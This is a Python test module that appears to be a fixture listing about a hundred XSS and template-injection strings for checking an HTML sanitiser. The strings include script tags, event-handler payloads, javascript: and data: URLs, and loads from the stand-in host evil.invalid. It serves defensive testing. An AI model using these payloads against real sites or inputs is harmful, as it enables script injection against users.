"""A hundred names that would do something if a page took them for more than text. What each would do is to set `window.hacked` or to ask a network."""

from __future__ import annotations

_RUN = "window.hacked=1"
_ENTITY = "&lt;img src=x onerror=window.hacked=1&gt;"

SCRIPTS = (
    f"<script>{_RUN}</script>", f"</script><script>{_RUN}</script>", f"</SCRIPT ><svg onload={_RUN}>", f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script/x>{_RUN}</script>", "<script src=https://evil.invalid/x.js></script>", "<script src=//evil.invalid/x.js></script>",
    f"<script type=module>{_RUN}</script>", f"<!--><script>{_RUN}</script>-->", f"<!-- --!><script>{_RUN}</script>", f"<!--<script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>", f"<![CDATA[<script>{_RUN}</script>]]>", f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">",
    f"<template><script>{_RUN}</script></template>", f"</title><script>{_RUN}</script>", f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>", f"</option></select><script>{_RUN}</script>", f"</bdi></button></table><script>{_RUN}</script>",
)  # fmt: skip
HANDLERS = (
    f"<img src=x onerror={_RUN}>", f"<img src=x onerror='{_RUN}'//", f"<img/src=x/onerror={_RUN}>", f"<body onload={_RUN}>", f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//", f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>", f"<svg><set attributeName=onmouseover to={_RUN}>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>x</text></a></svg>", f"<svg><script>{_RUN}</script></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{_RUN}</script>'></foreignObject></svg>", "<svg><use href='https://evil.invalid/x.svg#y'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>", f"<details open ontoggle={_RUN}>x</details>", f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>", f"<input autofocus onfocus={_RUN}>", f"<select autofocus onfocus={_RUN}>", f"<marquee onstart={_RUN}>x</marquee>",
    f"<div style='animation-name:x' onanimationstart={_RUN}>", f"\" autofocus onfocus={_RUN} x=\"", f"' onmouseover={_RUN} x='", f"` onmouseover={_RUN} x=`",
    f"\"><img src=x onerror={_RUN}>", f"'><img src=x onerror={_RUN}>", f"--><img src=x onerror={_RUN}>", f"x onmouseover={_RUN}", f"/><p onclick={_RUN}>x",
)  # fmt: skip
ADDRESSES = (
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}", f"\x01javascript:{_RUN}", f"javascript://%0a{_RUN}",
    f"data:text/html,<script>{_RUN}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=", f"vbscript:{_RUN}",
    f"<a href='javascript:{_RUN}'>x</a>", f"<iframe src='javascript:parent.{_RUN}'></iframe>", "<iframe src=https://evil.invalid></iframe>",
    "<object data=https://evil.invalid></object>", "<embed src=https://evil.invalid>", "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid'>", "<base href=https://evil.invalid/>", "<form action=https://evil.invalid><button>x</button></form>",
    "https://evil.invalid/?q=1", "//evil.invalid/x.png", "<img src=https://evil.invalid/x.png>",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{% raw %}", "{% include 'page.html' %}", "{{ ''.__class__.__mro__ }}", "{# comment #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{{ 7*7 }}}",
    "@{label}", "@$name{safe}", "$index", "%(class)s", "{0.__class__}", "$$x^2$$", "\\(x\\)",
)  # fmt: skip
STYLES = (
    "</style><style>*{display:none}</style>", "red;background:url(https://evil.invalid/x.png)", "expression(window.hacked=1)", "}body{display:none}",
    "url('https://evil.invalid/x.css')",
)  # fmt: skip
OTHERS = (
    "\"};window.hacked=1;//", "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e", "\u2028window.hacked=1\u2029", f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    "&#60;img src=x onerror=window.hacked=1&#62;", _ENTITY, "\u202e<tpircs>", "\u2066\u2067hidden\u2069", "\uff1cscript\uff1ewindow.hacked=1",
    "__proto__", "constructor",
)  # fmt: skip

PAYLOADS = (*SCRIPTS, *HANDLERS, *ADDRESSES, *TEMPLATES, *STYLES, *OTHERS)
